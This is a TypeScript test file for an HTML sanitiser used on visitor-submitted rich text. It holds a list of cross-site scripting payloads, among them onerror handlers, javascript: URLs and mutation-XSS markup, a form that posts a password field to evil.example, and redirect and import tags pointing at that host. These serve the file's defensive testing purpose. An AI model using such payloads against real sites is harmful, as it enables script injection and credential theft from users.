/** Sanitising of rich text from visitors. */
import { richText } from '@platform/contract/richText';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { plainText, sanitiseRichText } from './richText.ts';

const payloads = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<p style="position:fixed;inset:0" class="button" id="root">x</p>',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=//evil.example">',
  '<!--><script>alert(1)</script>-->',
  '<p><style>@import "//evil.example"</style>x</p>',
  '<object data="x"></object><embed src="x">',
  '<textarea><script>alert(1)</script></textarea>',
];

const allowedTag =
  /<\/?(?:a|b|blockquote|br|code|em|h[234]|hr|i|li|ol|p|pre|s|strong|sub|sup|u|ul)(?:\s(?:href="(?:https?:|mailto:|\/|#|[^":]*")[^"]*"?|rel="[^"]*"|start="[^"]*"|\s)*)?\s*\/?>/g;

function isHarmless(html: string): boolean {
  return (
    !html.replaceAll(allowedTag, '').includes('<') &&
    !/\son\w+=|javascript:|style=/i.test(html.match(allowedTag)?.join('') ?? '')
  );
}

describe('sanitiseRichText', () => {
  it('keeps what the editor writes', () => {
    const html =
      '<h2>缘起</h2><p>中轴<strong>线</strong>与<em>青年</em></p><ul><li><p>一</p></li></ul><blockquote><p>知行合一</p></blockquote>';
    expect(sanitiseRichText(html)).toBe(html);
  });

  it('adds rel to links and turns h1 into h2', () => {
    expect(sanitiseRichText('<h1>x</h1><a href="https://a.example" target="_blank">y</a>')).toBe(
      '<h2>x</h2><a href="https://a.example" rel="noopener nofollow ugc">y</a>',
    );
  });

  it.each(payloads)('removes the payload %s', (payload) => {
    for (const html of [payload, `<p>好${payload}</p>`, payload + payload]) {
      const clean = sanitiseRichText(html);
      expect(isHarmless(clean), clean).toBe(true);
      expect(plainText(sanitiseRichText(clean))).toBe(plainText(clean));
    }
  });

  it('removes pieces of payloads in any order, and is idempotent for the text', () => {
    const pieces = fc.array(
      fc.oneof(fc.constantFrom(...payloads.flatMap((text) => text.split(/(?=[<> ])/))), fc.string()),
      {
        maxLength: 12,
      },
    );
    fc.assert(
      fc.property(pieces, (parts) => {
        const clean = sanitiseRichText(parts.join(''));
        expect(isHarmless(clean), clean).toBe(true);
        expect(plainText(sanitiseRichText(clean))).toBe(plainText(clean));
      }),
      { numRuns: 500 },
    );
  });

  it('returns nothing for HTML without text', () => {
    for (const html of ['', '<p></p>', '<p> &nbsp;</p><hr>', '<script>x</script>'])
      expect(sanitiseRichText(html)).toBe('');
  });
});

describe('plainText', () => {
  it('returns the text with one space between blocks', () => {
    expect(plainText('<h2>甲</h2><p>乙 &amp; 丙<br>&lt;丁&gt;</p><ul><li>戊</li></ul>')).toBe(
      '甲 乙 & 丙 <丁> 戊',
    );
  });
});

describe('richText', () => {
  const field = richText({ max: 50, required: '请输入新闻内容' });

  it('requires text within its bounds', () => {
    for (const html of ['', '<p></p>', '<p>&nbsp;</p>', undefined])
      expect(field.safeParse(html).error?.issues[0]?.message).toBe('请输入新闻内容');
    expect(field.safeParse('x'.repeat(51)).error?.issues[0]?.message).toBe('长度不能超过 50 个字符');
    expect(field.parse('<p>好</p>')).toBe('<p>好</p>');
  });
});
